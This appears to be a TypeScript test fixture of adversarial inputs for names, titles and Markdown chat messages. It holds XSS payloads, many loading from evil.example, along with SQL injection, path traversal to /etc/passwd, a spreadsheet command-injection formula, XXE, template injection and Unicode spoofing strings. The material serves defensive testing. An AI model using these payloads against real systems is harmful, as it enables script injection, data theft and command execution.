/**
 * What has been used against names, titles and messages elsewhere. Whatever of it is run calls `xss()`; whatever of it becomes
 * an element bears `data-xss`, is called `xss-...` or points to evil.example. The first ones fit everywhere.
 */
const short = [
  '<script>xss()</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<script/data-xss>xss()</script>', '"><script>xss()</script>', '\'><script>xss()</script>',
  '</title><script>xss()</script>', '</textarea><script>xss()</script>', '</script><script>xss()</script>', '<scr<script>ipt>xss()</scr</script>ipt>', '<script>xss()//',
  '<img src=x onerror=xss() data-xss>', '"><img src=x onerror=xss() data-xss>', '<img src="//evil.example/a.png" data-xss>', '<img/src/onerror=xss() data-xss>', '<IMG SRC=`x`onerror=xss() data-xss>',
  '<image src=x onerror=xss() data-xss>', '<img src=x:x onerror="&#120;ss()" data-xss>', '<img srcset="//evil.example/b 1x" data-xss>', '<picture><source srcset=//evil.example/c><img data-xss></picture>',
  '<svg onload=xss() data-xss>', '<svg/onload=xss() data-xss>', '<svg><script data-xss>xss()</script></svg>', '<svg><a xlink:href="javascript:xss()" data-xss><text>x</text></a></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s data-xss>', '<svg><use href="//evil.example/s.svg#x" data-xss></svg>', '<math><mtext data-xss><a href="javascript:xss()">x</a></mtext></math>',
  '<svg><foreignObject data-xss><body onload=xss()></foreignObject></svg>', '<math href="javascript:xss()" data-xss>x</math>',
  '<iframe src="javascript:xss()" data-xss></iframe>', '<iframe srcdoc="<script>parent.xss()</script>" data-xss>', '<object data="javascript:xss()" data-xss>', '<embed src=//evil.example/e.swf data-xss>',
  '<base href=//evil.example/ data-xss>', '<meta http-equiv=refresh content="0;url=//evil.example" data-xss>', '<link rel=stylesheet href=//evil.example/l.css data-xss>', '<style data-xss>*{display:none}</style>',
  '<style>@import "//evil.example/i.css";</style>', '<div style="background:url(//evil.example/bg)" data-xss>x</div>', '<p style=position:fixed;inset:0 data-xss>x</p>',
  '<body onload=xss() data-xss>', '<body onpageshow=xss() data-xss>', '<input autofocus onfocus=xss() data-xss>', '<select autofocus onfocus=xss() data-xss>', '<textarea autofocus onfocus=xss() data-xss>',
  '<details open ontoggle=xss() data-xss>', '<video src=x onerror=xss() data-xss>', '<audio src=x onerror=xss() data-xss>', '<video><source onerror=xss() data-xss></video>', '<video poster=//evil.example/p data-xss>',
  '<marquee onstart=xss() data-xss>x</marquee>', '<keygen autofocus onfocus=xss() data-xss>', '<isindex action=javascript:xss() data-xss>', '<form action=//evil.example/f data-xss><button>x</button></form>',
  '<button formaction=javascript:xss() data-xss>x</button>', '<a href=javascript:xss() data-xss>x</a>', '<a href="jav&#x09;ascript:xss()" data-xss>x</a>', '<a href="data:text/html,<script>xss()</script>" data-xss>x</a>',
  '<xss-one id=x tabindex=1 onfocus=xss()></xss-one>', '<template data-xss><script>xss()</script></template>', '<noscript><p title="</noscript><img src=x onerror=xss()>">', '<dialog open data-xss>x</dialog>',
  '<!--><img src=x onerror=xss() data-xss>', '<![CDATA[<img src=x onerror=xss()>]]>', '<?xml version="1.0"?><x data-xss/>', '<!DOCTYPE x [<!ENTITY y SYSTEM "//evil.example/y">]>&y;', '<div data-xss',
  '" onmouseover="xss()" x="', '\' onfocus=\'xss()\' autofocus x=\'', '" autofocus onfocus=xss() x="', '` onclick=xss() `', '"style="x:expression(xss())', '\\" onload=\\"xss()', '\'-xss()-\'', '";xss();//', '\\\';xss();//',
  'javascript:xss()', 'JaVaScRiPt:xss()', 'vbscript:xss()', 'data:text/html,<script>xss()</script>', '//evil.example/x', 'https://evil.example/"onmouseover="xss()',
  '{{constructor.constructor("xss()")()}}', '${xss()}', '#{xss()}', '<%= xss() %>', '{{7*7}}', '[[${xss()}]]', '{%raw%}', '$t(common:appName)', '{{name, uppercase}}', '$t(xss, {"x": "y"})', '%s%s%n', '%x%x%x',
  '__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '[object Object]', 'true', '0', '-1', '../../../etc/passwd', '..\\..\\windows', 'CON', 'a/b\\c:d*e?f', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '; DROP TABLE people;--', '\' OR 1=1--',
  '\u202Egnp.exe', 'evil\u202Efdp.cod', '\u2066isolated', 'left\u200Fright', '\u2028line\u2029paragraph', 'zero\u200Bwidth\u200Djoin', '\uFEFFbom', 'ta\tb', 'nul\u0000l', 'bell\u0007', '\u001B[31mred\u001B[0m', 'new\nline', '\u00A0\u00A0nbsp',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}', '\u{E0041}\u{E0042}tags', 'ﷺ﷽', '\uD800lone', 'مرحبا <b data-xss>بالعالم</b>', '海关 <i data-xss>署</i>', 'ＡＤＭＩＮ＜script＞', 'аdmin',
  `${'x'.repeat(110)}`, `${'W'.repeat(60)} ${'i'.repeat(40)}`, '＜img src=x onerror=xss()＞', '&lt;img src=x onerror=xss()&gt;', '&amp;lt;script&amp;gt;xss()', '&#60;script&#62;xss()&#60;/script&#62;', '%3Cscript%3Exss()%3C/script%3E', '\\u003cscript\\u003exss()\\u003c/script\\u003e',
] as const;

/** For messages alone, which are read as Markdown. */
const messages = [
  '[x](javascript:xss())', '[x](JaVaScRiPt:xss())', '[x](javascript&colon;xss())', '[x](&#106;avascript:xss())', '[x](java\nscript:xss())', '[x](\u0001javascript:xss())', '[x]( javascript:xss())', '[x](<javascript:xss()>)',
  '[x](javascript://evil.example/%0Axss())', '[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)', '[x](vbscript:xss())', '[x](file:///etc/passwd)', '[x](blob:https://evil.example/x)', '[x](/api/sign-out)', '[x](//evil.example)',
  '![x](https://evil.example/i.png)', '![x](javascript:xss())', '![x](x"onerror="xss())', '[![x](https://evil.example/i.png)](javascript:xss())', '<javascript:xss()>', '<https://evil.example/"onclick=xss()>',
  '[x]: javascript:xss()\n\n[x]', '[x][y]\n\n[y]: javascript:xss() "t"', '[x](https://evil.example "onmouseover=xss()")', '[x](https://evil.example/ \'" onclick="xss()\')', 'https://evil.example/?q=<script>xss()</script>', 'www.evil.example/"><img src=x onerror=xss()>',
  '[x](https://user:password@evil.example)', '[https://gangway.example](https://evil.example)', '```html\n<script>xss()</script>\n```', '`<img src=x onerror=xss() data-xss>`', '~~~<svg onload=xss()>\nx\n~~~', '> <img src=x onerror=xss() data-xss>',
  '- <img src=x onerror=xss() data-xss>', '# <img src=x onerror=xss() data-xss>', '| a | <img src=x onerror=xss() data-xss> |\n|---|---|\n| b | c |', '<details open ontoggle=xss() data-xss>\n\n**x**\n\n</details>', '<div>\n*x*\n</div>', '- [ ] <input autofocus onfocus=xss() data-xss>',
  'a[^1]\n\n[^1]: <script>xss()</script>', '<!-- x -->\n<script>xss()</script>', `${'>'.repeat(1_500)} x`, `${'['.repeat(1_500)}`, `${'*a '.repeat(1_000)}`, 'x'.repeat(3_500), `${'😀'.repeat(900)}`, '<'.repeat(3_000), `${'e\u0301'.repeat(900)}`,
] as const;

/** For a line of text (a name, a title, a label) of at most so many characters. */
export function lines(most: number): string[] {
  return short.filter((text) => text.length <= most);
}
export const chat: readonly string[] = [...short, ...messages];

/** A line as the server keeps it and a page shows it: without control and direction characters, with single spaces. */
export function kept(text: string): string {
  return text.replaceAll(/[\p{Cc}\u200E\u200F\u202A-\u202E\u2066-\u2069]/gu, ' ').replaceAll(/\s+/gu, ' ').trim();
}
